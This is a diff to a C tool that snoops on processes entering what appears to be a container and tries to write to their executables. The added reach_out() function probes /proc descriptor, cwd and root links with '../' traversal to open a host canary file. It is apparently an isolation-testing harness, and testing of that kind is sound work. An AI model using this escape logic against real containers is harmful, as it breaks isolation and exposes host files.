@@ -3,7 +3,8 @@
  *
  *   exchange A B [A B]...   swaps names for ever
  *   snoop OUT STOP [SEAL]   looks into every process that was not there at the start, until the file STOP exists;
- *                           then tries to write to the programs that it caught; with SEAL tries to unlock them first
+ *                           then tries to write to the programs that it caught; with SEAL tries to unlock them first;
+ *                           $CANARY is a file of the host that it tries to reach through what it sees
  */
 #define _GNU_SOURCE
 #include <ctype.h>
@@ -91,6 +92,18 @@ static ssize_t link_text(const char *path, char *target, size_t size) {
     return length;
 }
 
+/* A file of the host, by way of a directory that a process has. */
+static void reach_out(int pid, const char *place) {
+    static const char *const ways[] = {"", "/../../../../../../../../../../../../../../.."};
+    const char *canary = getenv("CANARY");
+    char path[4096];
+    for (size_t i = 0; canary && i < sizeof ways / sizeof *ways; i++) {
+        snprintf(path, sizeof path, "%s%s%s", place, ways[i], canary);
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        if (fd >= 0) tell("escaped", pid, path), close(fd);
+    }
+}
+
 static void look_at_descriptors(int pid) {
     char path[64], target[4096];
     struct stat status;
@@ -98,7 +111,7 @@ static void look_at_descriptors(int pid) {
         snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
         if (link_text(path, target, sizeof target) < 0) continue;
         tell("descriptor", pid, target);
-        if (stat(path, &status) == 0 && S_ISDIR(status.st_mode)) tell("directory", pid, target);
+        if (stat(path, &status) == 0 && S_ISDIR(status.st_mode)) tell("directory", pid, target), reach_out(pid, path);
     }
 }
 
@@ -111,7 +124,7 @@ static void look_at(int pid) {
     if ((fd = open(path, O_RDONLY | O_CLOEXEC)) >= 0) keep(pid, fd);
     for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
         snprintf(path, sizeof path, "/proc/%d/%s", pid, places[i]);
-        if (link_text(path, target, sizeof target) >= 0) tell(places[i], pid, target);
+        if (link_text(path, target, sizeof target) >= 0) tell(places[i], pid, target), reach_out(pid, path);
     }
     snprintf(path, sizeof path, "/proc/%d/environ", pid);
     if ((fd = open(path, O_RDONLY | O_CLOEXEC)) >= 0) tell("environ", pid, ""), close(fd);
